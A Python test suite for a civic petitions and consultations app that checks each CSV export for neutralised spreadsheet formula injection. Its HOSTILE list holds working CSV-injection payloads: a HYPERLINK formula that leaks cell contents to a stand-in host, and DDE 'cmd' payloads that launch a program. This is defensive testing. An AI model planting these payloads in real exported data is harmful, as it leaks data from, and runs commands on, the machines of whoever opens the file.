"""Every CSV export passes a formula-injection check: residents' and officials' text that a spreadsheet would run
as a formula (a cell starting with = + - @, a tab or a carriage return) is written as text, and numbers stay numbers.
"""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

from app.clock import utc_now
from app.csv_export import FORMULA_START, safe_cell, to_csv
from app.db import unit_of_work
from consultations.config import ConsultationSettings

HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab first", "\r=1+1 carriage return first"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")
BIKES = ["We need protected bike lanes on Main Street", "Bike lanes on Main Street would make cycling safe",
         "Please build more protected bike lanes", "Safer cycling needs separated bike lanes",
         "Bike lanes everywhere, cycling to school is dangerous", "Paint is not protection: real bike lanes please",
         "My kids would cycle to school with safe bike lanes"]
BUSES = ["Bus fares are far too high for families", "Make bus tickets cheaper for students",
         "Lower bus fares so people leave the car at home", "Cheaper bus fares and more frequent buses",
         "The bus fare increase hurts pensioners", "Free bus fares for under 18s",
         "Bus tickets cost more than parking, cut the fares"]


def assert_formula_safe(text: str, must_contain: list[str]) -> list[list[str]]:
    """No cell of `text` would run as a formula, and each of `must_contain` is there, neutralised."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1, text
    for row in rows:
        for cell in row:
            assert NUMBER.fullmatch(cell) or not cell.startswith(FORMULA_START), f"formula cell {cell!r} in {row}"
    cells = {cell for row in rows for cell in row}
    for value in must_contain:
        assert "'" + value.strip("\r") in cells or "'" + value in cells, f"{value!r} missing from {sorted(cells)[:40]}"
    return rows


def test_safe_cell_neutralises_each_formula_start_and_keeps_numbers():
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    assert safe_cell(-1) == -1 and safe_cell(0) == 0 and safe_cell(2.5) == 2.5
    assert safe_cell(None) == "" and safe_cell("plain text") == "plain text"
    assert to_csv([[-1, "=1+1"]], header=["vote", "text"]) == "vote,text\r\n-1,'=1+1\r\n"


def _petition(app, action: str, summary: str) -> int:
    from petitions.models import Petition
    from petitions.models import Response as PetitionResponse

    now = utc_now()
    with unit_of_work(app.state.engine) as s:
        p = Petition(action=action[:80], background="Background", creator_name="Creator", creator_email="c@example.org",
                     state="open", created_at=now, updated_at=now, opened_at=now, closes_at=now + timedelta(days=30),
                     signature_count=3)
        s.add(p)
        s.flush()
        s.add(PetitionResponse(petition_id=p.id, summary=summary, details="Details", decision="accepted",
                               published_at=now))
        return p.id


def test_every_csv_export_neutralises_formulas(app, client, make_client, helpers):
    from consultations import dashboard_jobs, forms, service

    # Petitions: /api/petitions.csv carries titles and officials' response summaries.
    _petition(app, HOSTILE[0][:80], HOSTILE[3])
    petitions_csv = client.get("/api/petitions.csv")
    assert petitions_csv.status_code == 200
    assert_formula_safe(petitions_csv.text, [HOSTILE[0][:80], HOSTILE[3]])

    # A consultation with residents' comments starting with every formula character, and votes (-1 stays -1).
    official = helpers.add_user(app, "official@example.org", role="official", name="Olivia", department="transport")
    state = app.state

    def uow():
        return unit_of_work(state.engine, state.unit_context)

    data = forms.ConsultationData(title="Streets", summary="Summary", body="<p>Body</p>", department_id=None,
                                  questions=(), opens_on=None, closes_on=None, strict_mode=False)
    with uow() as s:
        cid = service.create_consultation(s, user_id=official.id, data=data).id
    with uow() as s:
        service.change_state(s, user_id=official.id, consultation_id=cid, action="open")
    limits = ConsultationSettings(comment_rate_limit="1000/60")
    texts = [f"{h} {t}" for h, t in zip(HOSTILE * 3, BIKES + BUSES)] + BIKES[:3] + BUSES[:3]
    comment_ids = []
    for i, body in enumerate(texts):
        author = helpers.add_user(app, f"r{i}@example.org")
        with uow() as s:
            comment_ids.append(service.post_comment(s, consultation_id=cid, author_id=author.id, body=body,
                                                    limits=limits).id)
    voter = helpers.add_user(app, "voter@example.org")
    with uow() as s:
        service.cast_vote(s, comment_id=comment_ids[0], user_id=voter.id, vote="disagree", limits=limits)

    comments_csv = client.get(f"/api/consultations/{cid}/comments.csv")
    assert comments_csv.status_code == 200
    stored = [t.strip() for t in texts[:len(HOSTILE)]]  # the form trims leading tabs and line breaks
    assert_formula_safe(comments_csv.text, [t for t in stored if t.startswith(FORMULA_START)])
    votes_csv = client.get(f"/api/consultations/{cid}/votes.csv")
    assert votes_csv.status_code == 200
    rows = assert_formula_safe(votes_csv.text, [])
    assert rows[1][-1] == "-1"  # Polis's disagree vote, still a number

    # The officials' analysis.csv: theme labels (renamed by an official) and comment text.
    with unit_of_work(state.engine) as s:
        dashboard_jobs.request_reanalysis(s, consultation_id=cid, official_id=official.id)
    helpers.run_jobs(app)
    officer = make_client()
    helpers.sign_in(officer, app, "official@example.org", role="official", department="transport")
    analysis = officer.get(f"/officials/consultations/{cid}/analysis.csv")
    assert analysis.status_code == 200, analysis.text
    first_theme = next(r for r in csv.DictReader(io.StringIO(analysis.text)) if r["section"] == "theme")
    with unit_of_work(state.engine) as s:
        dashboard_jobs.rename_theme(s, consultation_id=cid, theme_key=int(first_theme["id"]), label=HOSTILE[0][:80],
                                    official_id=official.id)
    analysis = officer.get(f"/officials/consultations/{cid}/analysis.csv")
    assert analysis.status_code == 200
    assert_formula_safe(analysis.text, [HOSTILE[0][:80]])


def test_the_moderation_audit_export_neutralises_formulas(app, client, helpers):
    from sqlmodel import select

    from moderation import ContentRef, screen_content
    from moderation.models import CaseState, ModerationCase, ModerationItem

    state = app.state
    with unit_of_work(state.engine, state.unit_context) as s:
        screen_content(s, ContentRef(kind="comment", item_id=1, text=HOSTILE[1], author_id=None, context_id=7,
                                     context_title=HOSTILE[2], reach=0, url="/consultations/7#c1", strict=True))
    with unit_of_work(state.engine) as s:
        item = s.exec(select(ModerationItem).where(ModerationItem.item_id == 1)).one()
        case_id = s.exec(select(ModerationCase.id).where(ModerationCase.item_pk == item.id,
                                                         ModerationCase.state == CaseState.OPEN)).one()
    helpers.sign_in(client, app, "admin@example.org", role="admin", name=HOSTILE[3])
    decided = client.post(f"/moderation/cases/{case_id}/decide", data={
        "decision": "hide", "reason": "abuse", "passages": "", "block_days": "0", "note": HOSTILE[0]})
    assert decided.status_code == 303, decided.text
    export = client.get("/moderation/audit.csv")
    assert export.status_code == 200
    assert_formula_safe(export.text.lstrip("\ufeff"), [HOSTILE[0], HOSTILE[1]])
